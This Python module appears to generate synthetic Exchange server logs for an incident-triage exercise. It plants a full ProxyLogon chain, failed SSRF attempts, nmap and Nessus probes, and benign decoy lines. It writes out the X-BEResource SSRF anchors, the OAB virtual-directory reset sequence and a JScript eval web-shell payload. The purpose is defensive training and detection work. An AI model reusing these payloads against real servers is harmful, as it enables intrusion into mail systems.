"""The planted activity of each scenario component, as requests and log records.

* ``proxylogon``: the full chain per ../shared/reference/microsoft-tools.md §1.4–1.7 and
  logs-and-detections.md §1a/§1c/§1d (helsecert incident, CSS-Exchange issue #100): SSRF through
  the ``X-BEResource`` cookie (AnchorMailbox ``ServerInfo~a]@<fqdn>:444/…?#``) to
  autodiscover.xml → mapi/emsmdb → ``ecp/proxyLogon.ecp`` (HTTP 241) → DDIService
  GetObject/SetObject ``schema=OABVirtualDirectory`` → SetObject ``schema=ResetOABVirtualDirectory``;
  the ECP Server log's ``Set-OabVirtualDirectory.ExternalUrl=''http://f/<script…>''``; the
  OABGenerator "Download failed and temporary file … needs to be removed" write; then days of
  requests to the web shells from a second address.
* ``attempts``: autodiscover-only SSRF tries (the step that fails without a valid mailbox) and
  the BackEndCookie variant, from several addresses, plus failed 4xx/5xx follow-ups.
* ``scanner``: the CSS-Exchange nmap script's ``/owa/auth/x.js`` probe
  (``ServerInfo~localhost/ecp/default.flt?``, HTTP 500, ``X-AnonResource-Backend-Cookie``),
  a ``ServerInfo~localhost/owa/auth/logon.aspx?`` probe and Nessus-style ``@test.com`` requests.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from extriage.generator.httpproxy import csv_field
from extriage.generator.plan import AttackPlan
from extriage.generator.request import Req

CHROME_65 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36"
NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
NESSUS_UA = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)"


def ms(dt: datetime) -> int:
    return int(dt.timestamp() * 1000)


@dataclass(slots=True)
class Planted:
    """Everything the core-log planters add on top of the benign background."""

    requests: list[Req] = field(default_factory=list)
    ecp: list[tuple[int, str]] = field(default_factory=list)  # (t_ms, EventId,EventData part of the line)
    oab: list[tuple[int, str]] = field(default_factory=list)  # (t_ms, message)


def _rid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def build(plan: AttackPlan) -> Planted:
    rng = random.Random(f"{plan.seed}:scenario")
    out = Planted()
    if "proxylogon" in plan.components:
        _proxylogon(plan, rng, out)
    if "attempts" in plan.components:
        _attempts(plan, rng, out)
    if "scanner" in plan.components:
        _scanner(plan, rng, out)
    _benign_specials(plan, rng, out)
    lo, hi = ms(plan.start), ms(plan.end)
    out.requests = sorted((r for r in out.requests if lo <= r.t < hi), key=lambda r: r.t)
    out.ecp = sorted(e for e in out.ecp if lo <= e[0] < hi)
    out.oab = sorted(e for e in out.oab if lo <= e[0] < hi)
    return out


def _ssrf(
    plan: AttackPlan, rng: random.Random, t: int, ip: str, ua: str, target: str, status: int, stem: str
) -> Req:
    """One X-BEResource SSRF request as the front end logs it (and the back end, as the computer)."""
    path, _, q = target.partition("?")
    return Req(
        t,
        "Ecp",
        "POST",
        stem,
        "",
        auth="",
        user="",
        anchor=f"ServerInfo~a]@{plan.fqdn}:444{target}#",
        ua=ua,
        client_ip=ip,
        status=status,
        be_status=status,
        routing_hint="X-BEResource-Cookie",
        request_bytes=rng.randrange(150, 2500),
        response_bytes=rng.randrange(0, 6000),
        latency=rng.randrange(20, 400),
        request_id=_rid(rng),
        be_stem=path,
        be_query=q.rstrip("#"),
        be_user=plan.computer_account,
    )


def _proxylogon(plan: AttackPlan, rng: random.Random, out: Planted) -> None:
    m = plan.moments
    ip, ip2 = plan.attacker_ips[0], plan.attacker_ips[1]
    stem = "/ecp/" + rng.choice("xyz") + ".js"
    canary = plan.ecp_canary
    fq = plan.fqdn
    reqs = out.requests
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["ssrf_autodiscover"]),
            ip,
            "ExchangeServicesClient/0.0.0.0",
            "/autodiscover/autodiscover.xml?",
            200,
            stem,
        )
    )
    mapi = _ssrf(plan, rng, ms(m["ssrf_mapi"]), ip, "python-requests/2.25.1", "/mapi/emsmdb/?", 200, stem)
    # the same hop as seen through the BackEndCookie variant (MS Q&A one-liner: Server~*/*~*)
    mapi.be_cookie = f"Server~a]@{fq}:444/mapi/emsmdb/?#~{plan.be_version_number}"
    reqs.append(mapi)
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["proxylogon_ecp"]),
            ip,
            "python-requests/2.25.1",
            "/ecp/proxyLogon.ecp?",
            241,
            stem,
        )
    )
    ddi = "/ecp/DDI/DDIService.svc/"
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["oab_get"]),
            ip,
            "python-requests/2.25.1",
            f"{ddi}GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}",
            200,
            stem,
        )
    )
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["oab_set_externalurl"]),
            ip,
            "python-requests/2.25.1",
            f"{ddi}SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}",
            200,
            stem,
        )
    )
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["oab_reset"]) - 1200,
            ip,
            "python-requests/2.25.1",
            f"{ddi}GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}",
            200,
            stem,
        )
    )
    reqs.append(
        _ssrf(
            plan,
            rng,
            ms(m["oab_reset"]),
            ip,
            "python-requests/2.25.1",
            f"{ddi}SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
            200,
            stem,
        )
    )
    # ECP Server log: the cmdlets the DDI calls ran (Cmdlet.Param=Value.Param=Value, quotes doubled)
    sid = f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-500"
    shell0 = plan.shells[0]
    payload = f'http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{plan.shell_password}"],"unsafe");}}</script>'
    ident = plan.oab_vdir_guid
    oab_path = f"{plan.install_path}\\FrontEnd\\HttpProxy\\OAB"

    def ecp(t: int, cmd: str, url: str) -> None:
        data = (
            f"S:TIME={rng.randrange(40, 900)};S:SID={sid};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX=;"
            f"S:ACTID={_rid(rng)};S:RS=0;S:BLD={plan.build_text};S:TNAME=<null>;S:TID=;S:USID={_rid(rng)};S:EDOID=;S:ACID="
        )
        out.ecp.append((t, f"ECP.Request,{csv_field(data)}"))

    t_set = ms(m["oab_set_externalurl"]) + 230
    ecp(
        t_set,
        f"Set-OabVirtualDirectory.ExternalUrl=''{payload}''.Identity=''{ident}''",
        f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}",
    )
    t_reset = ms(m["oab_reset"]) + 150
    reset_url = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory"
    ecp(t_reset, f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''{ident}''", reset_url)
    ecp(t_reset + 410, f"Remove-OABVirtualDirectory.Identity=''{ident}''.Force=$true", reset_url)
    unc = "\\\\127.0.0.1\\c$" + shell0.path[2:]
    ecp(
        t_reset + 1890,
        f"New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Path=''{oab_path}''.Role=''ClientAccess''"
        f".ExternalUrl=''{payload}''.FilePathName=''{unc}''",
        reset_url,
    )
    # OABGenerator: the CVE-2021-26858 write of the second shell
    shell1 = plan.shells[1]
    out.oab.append(
        (
            ms(m["oabgen_download_failed"]),
            f"Error,OABGeneratorAssistant,Download failed and temporary file '{shell1.path}' needs to be removed.",
        )
    )
    # IIS: the shells in use from the second address, through the following days
    t = m["webshell_first_use"]
    last = m["webshell_last_use"]
    day = 0
    while t <= last:
        n = rng.randrange(3, 8)
        tt = ms(t)
        for i in range(n):
            shell = plan.shells[0] if (i + day) % 3 else plan.shells[1]
            ua = "antSword/v2.1" if day == 1 and i == 0 else CHROME_65
            reqs.append(
                Req(
                    tt,
                    "Owa",
                    "POST" if i else "GET",
                    shell.url,
                    "",
                    ua=ua,
                    client_ip=ip2,
                    status=200,
                    be_status=None,
                    in_proxy=False,
                    in_be=False,
                    latency=rng.randrange(15, 900),
                    request_id=_rid(rng),
                    request_bytes=rng.randrange(40, 3000),
                    response_bytes=rng.randrange(100, 9000),
                )
            )
            tt += rng.randrange(4000, 90000)
        day += 1
        t = (t + timedelta(days=1)).replace(
            hour=rng.randrange(1, 23), minute=rng.randrange(60), second=rng.randrange(60)
        )
    # an unauthenticated POST to a static resource (Volexity pattern) from the operator
    reqs.append(
        Req(
            ms(m["webshell_first_use"]) - 61000,
            "Owa",
            "POST",
            "/owa/auth/Current/themes/resources/logon.css",
            "",
            ua=CHROME_65,
            client_ip=ip2,
            status=200,
            be_status=None,
            in_proxy=False,
            in_be=False,
            latency=40,
            request_id=_rid(rng),
        )
    )


def _attempts(plan: AttackPlan, rng: random.Random, out: Planted) -> None:
    base = plan.attack_start or (plan.start + (plan.end - plan.start) * 0.6)
    for n, ip in enumerate(plan.attempt_ips):
        t = base + timedelta(days=rng.randrange(-3, 4), hours=rng.randrange(-6, 7), minutes=rng.randrange(60))
        t = max(plan.start + timedelta(minutes=5), min(plan.end - timedelta(hours=1), t))
        stem = "/ecp/" + rng.choice(("a", "b", "y", "x", "js", "s3")) + ".js"
        ua = rng.choice(("python-requests/2.25.1", "ExchangeServicesClient/0.0.0.0", CHROME_65))
        for k in range(rng.randrange(1, 4)):
            status = rng.choice((200, 500, 404, 400)) if k == 0 else rng.choice((401, 404, 500))
            r = _ssrf(
                plan,
                rng,
                ms(t) + k * rng.randrange(800, 5000),
                ip,
                ua,
                "/autodiscover/autodiscover.xml?",
                status,
                stem,
            )
            if n == len(plan.attempt_ips) - 1:
                # the BackEndCookie variant: X-BEResource in the back-end cookie, no ServerInfo anchor
                r.anchor = ""
                r.routing_hint = "BackEndCookie"
                r.be_cookie = (
                    f"Server~a]@{plan.fqdn}:444/autodiscover/autodiscover.xml?#~{plan.be_version_number}"
                )
                status = r.status = rng.choice((401, 404, 500))  # failed, as the brief's attempts are
            if status != 200:
                r.be_status = status
                r.generic_errors = f"WebExceptionStatus=ProtocolError;ResponseStatusCode={status};"
            out.requests.append(r)


def _scanner(plan: AttackPlan, rng: random.Random, out: Planted) -> None:
    base = plan.attack_start or (plan.start + (plan.end - plan.start) * 0.6)
    for k, ip in enumerate(plan.scanner_ips):
        t = base + timedelta(days=k + 1, hours=rng.randrange(0, 12), minutes=rng.randrange(60))
        t = max(plan.start + timedelta(minutes=5), min(plan.end - timedelta(hours=1), t))
        # CSS-Exchange http-vuln-cve2021-26855.nse
        out.requests.append(
            Req(
                ms(t),
                "Owa",
                "GET",
                "/owa/auth/x.js",
                "",
                auth="FBA",
                user="",
                anchor="ServerInfo~localhost/ecp/default.flt?",
                ua=NMAP_UA,
                client_ip=ip,
                status=500,
                be_status=0,
                target="localhost",
                routing_hint="X-AnonResource-Backend-Cookie",
                latency=rng.randrange(10, 90),
                request_id=_rid(rng),
                be_stem="/ecp/default.flt",
                in_be=False,
                generic_errors="Microsoft.Exchange.HttpProxy.ServerLocatorException: NegotiateSecurityContext failed;",
            )
        )
        out.requests.append(
            Req(
                ms(t) + 2500,
                "Owa",
                "GET",
                "/owa/auth/x.js",
                "",
                auth="FBA",
                user="",
                anchor="ServerInfo~localhost/owa/auth/logon.aspx?",
                ua=NMAP_UA,
                client_ip=ip,
                status=500,
                be_status=0,
                target="localhost",
                routing_hint="X-BEResource-Cookie",
                latency=rng.randrange(10, 90),
                request_id=_rid(rng),
                in_be=False,
            )
        )
        # Nessus-style ProxyShell self-test with the arbitrary @test.com domain
        for j, tail in enumerate(("owa/", "mapi/nspi/")):
            out.requests.append(
                Req(
                    ms(t) + 9000 + j * 1500,
                    "Autodiscover",
                    "GET",
                    "/autodiscover/autodiscover.json",
                    f"@test.com/{tail}?&Email=autodiscover/autodiscover.json%3F@test.com",
                    auth="",
                    user="",
                    ua=NESSUS_UA,
                    client_ip=ip,
                    status=rng.choice((302, 400, 404)),
                    be_status=None,
                    in_be=False,
                    latency=rng.randrange(5, 60),
                    request_id=_rid(rng),
                )
            )


def _benign_specials(plan: AttackPlan, rng: random.Random, out: Planted) -> None:
    """Benign lines that look alarming to a naive grep: every server has them."""
    day2 = plan.start + timedelta(days=min(1, plan.days - 1), hours=14, minutes=12, seconds=7)
    sid = "S-1-5-21-1-2-3-1104"
    url = (
        "/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory&msExchEcpCanary=" + plan.ecp_canary[:30]
    )
    data = (
        f"S:TIME=211;S:SID={sid};S:CMD=Set-OwaVirtualDirectory.ExternalUrl=''https://{plan.public_host}/owa''"
        f".Identity=''{plan.hostname}\\owa (Default Web Site)'';S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={_rid(rng)};"
        f"S:RS=0;S:BLD={plan.build_text};S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID="
    )
    out.ecp.append((ms(day2), f"ECP.Request,{csv_field(data)}"))
    # a legitimate OAB download that failed into the proper Temp folder (Test-ProxyLogon ignores it)
    tmp = f"{plan.install_path}\\ClientAccess\\OAB\\Temp\\{_rid(rng)}\\oab.xml.tmp"
    out.oab.append(
        (
            ms(day2) + 3600_000,
            f"Warning,OABGeneratorAssistant,Download failed and temporary file '{tmp}' needs to be removed.",
        )
    )
